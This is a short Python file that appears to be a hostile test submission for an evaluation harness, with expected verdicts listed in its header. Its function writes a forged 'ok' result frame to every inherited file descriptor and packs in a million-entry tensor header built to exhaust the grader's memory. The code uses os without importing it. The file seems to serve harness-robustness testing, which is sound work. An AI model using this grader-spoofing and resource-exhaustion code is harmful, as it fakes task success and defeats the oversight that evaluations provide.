# verdict: crashed timeout failed memory
# threats: 15 34 35
# limits: test_s=8
"""An answer of empty tensors: each takes sixty bytes to name and a thousand to hold."""

import struct


def second(x):
    names = ",".join(f'"{number}":{{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}' for number in range(1_000_000))
    head = ("{" + names + "}").encode()
    head += b" " * (-len(head) % 8)
    tree = b'["d","id",2,"ok",1.0]'
    frame = struct.pack(">I", len(tree)) + tree + struct.pack("<Q", len(head)) + head
    frame = struct.pack(">I", len(frame)) + frame
    for descriptor in range(3, 64):
        try:
            view = memoryview(frame)
            while view:
                view = view[os.write(descriptor, view) :]
        except OSError:
            pass
    os._exit(0)
